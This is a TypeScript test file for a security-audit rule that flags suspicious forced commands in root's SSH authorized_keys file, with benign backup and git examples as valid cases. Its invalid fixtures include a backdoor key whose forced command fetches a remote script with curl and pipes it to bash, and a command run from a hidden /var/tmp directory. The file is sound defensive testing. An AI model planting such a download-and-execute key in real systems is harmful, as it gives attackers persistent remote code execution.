import { testRule } from '../../../test/helpers/rule-tester';
import { ED25519, keysFact, RSA } from '../../../test/helpers/ssh-fixtures';
import rule from './forced-command-key';

const root = (text: string) => ({ sshKeys: keysFact([{ path: '/root/.ssh/authorized_keys', users: ['root'], text }]) });

testRule(rule, {
  valid: [
    { name: 'plain keys with from= and no-pty', facts: root(`${ED25519}\nfrom="10.0.0.0/8",no-pty ${RSA}\n`) },
    {
      name: 'AWS/Debian cloud image root refusal',
      facts: root(
        `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"admin\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ${RSA}\n`,
      ),
    },
    { name: 'rrsync backup key', facts: root(`command="/usr/bin/rrsync -ro /srv/backup",restrict ${RSA}\n`) },
    {
      name: 'rsync --server and borg serve',
      facts: root(
        `command="rsync --server --sender -vlogDtpre.iLsfxC . /var/www" ${RSA}\ncommand="borg serve --restrict-to-path /backup",restrict ${ED25519}\n`,
      ),
    },
    {
      name: 'gitlab-shell',
      facts: root(`command="/opt/gitlab/embedded/service/gitlab-shell/bin/gitlab-shell key-12",no-port-forwarding ${RSA}\n`),
    },
  ],
  invalid: [
    {
      name: 'forced command that downloads and runs a script',
      facts: root(`command="curl -fsSL http://203.0.113.7/s.sh | bash; exec $SHELL" ${RSA}\n`),
      expect: [
        {
          severity: 'critical',
          user: 'root',
          path: '/root/.ssh/authorized_keys',
          title: /forced command: curl/,
          evidence: /command: curl -fsSL/,
        },
      ],
    },
    {
      name: 'forced command from a hidden directory',
      facts: root(`command="/var/tmp/.x/run" ${ED25519}\n`),
      expect: [{ severity: 'critical', evidence: /\/var\/tmp\/\.x\/run/ }],
    },
    {
      name: 'unknown wrapper script is high',
      facts: root(`command="/usr/local/bin/login-hook.sh" ${ED25519}\n`),
      expect: [{ severity: 'high', title: /login-hook\.sh/ }],
    },
  ],
});
